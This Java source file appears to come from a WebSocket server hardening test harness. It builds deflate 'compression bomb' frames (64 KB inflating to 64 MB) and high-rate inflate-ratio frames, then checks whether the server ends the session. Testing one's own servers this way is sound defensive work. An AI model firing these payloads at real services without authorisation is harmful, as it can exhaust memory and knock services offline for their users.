package io.belfry.attack.attacks;

import io.belfry.attack.server.Facts;
import io.belfry.attack.wire.Frames;
import io.belfry.attack.wire.Wire;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Optional;
import java.util.zip.Deflater;

/**
 * Compressed messages that are much more than they look. Immutable.
 *
 * @param plainBytes what a message inflates to
 * @param mustEnd whether the server must end the session for it; otherwise it may also take it
 */
record Deflating(String name, String sentence, int plainBytes, boolean mustEnd, double perSecond) implements Attack {
    private static final String EXTENSION = "Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover";

    /** An empty block that RFC 7692 has each message end without. */
    private static final int TAIL_BYTES = 4;

    static Deflating bomb() {
        return new Deflating(
                "compression-bomb",
                "messages of 64 KB that inflate to 64 MB, which must end the session",
                64 << 20,
                true,
                5);
    }

    static Deflating ratio() {
        return new Deflating(
                "inflate-ratio",
                "messages of 100 bytes that inflate to 50 KB each, many a second",
                50 << 10,
                false,
                200);
    }

    @Override
    public Optional<String> off(Facts facts) {
        return facts.compression() ? Optional.empty() : Optional.of("off in this configuration: Compression");
    }

    @Override
    public void run(Field field) throws IOException {
        byte[] frame = Frames.frame(Frames.FIN | Frames.RSV1 | Frames.TEXT, deflated(plainBytes));
        int ended = 0;
        int sent = 0;
        Pace pace = field.pace(perSecond);
        Wire wire = open(field);
        try {
            do {
                boolean taken = wire.send(frame);
                sent++;
                boolean over = mustEnd
                        ? wire.awaitEnd(field.patience())
                        : !taken || wire.poll().isEnded();
                if (over) {
                    ended++;
                    wire.close();
                    wire = open(field);
                } else if (mustEnd) {
                    field.gaveWay("a message of " + frame.length + " bytes that inflates to " + plainBytes
                            + " did not end its session");
                }
            } while (pace.next());
        } finally {
            wire.close();
        }
        field.did(sent + " messages of " + frame.length + " bytes, " + ended + " ended their session");
    }

    private static Wire open(Field field) throws IOException {
        Wire wire = field.door().open();
        wire.send(field.requests().upgrade(EXTENSION));
        wire.await(field.patience(), text -> text.contains("\r\n\r\n"));
        if (!wire.text().contains("permessage-deflate")) {
            field.gaveWay("Compression is on, but the server does not agree to permessage-deflate");
        }
        wire.forget();
        return wire;
    }

    static byte[] deflated(int plainBytes) {
        byte[] head = "{\"op\":\"ping\",\"id\":1,\"pad\":\"".getBytes(StandardCharsets.US_ASCII);
        byte[] plain = new byte[plainBytes];
        Arrays.fill(plain, (byte) 'a');
        System.arraycopy(head, 0, plain, 0, head.length);
        plain[plainBytes - 2] = '"';
        plain[plainBytes - 1] = '}';
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        try {
            deflater.setInput(plain);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            byte[] piece = new byte[8192];
            int count;
            do {
                count = deflater.deflate(piece, 0, piece.length, Deflater.SYNC_FLUSH);
                out.write(piece, 0, count);
            } while (count == piece.length);
            return Arrays.copyOf(out.toByteArray(), out.size() - TAIL_BYTES);
        } finally {
            deflater.end();
        }
    }
}
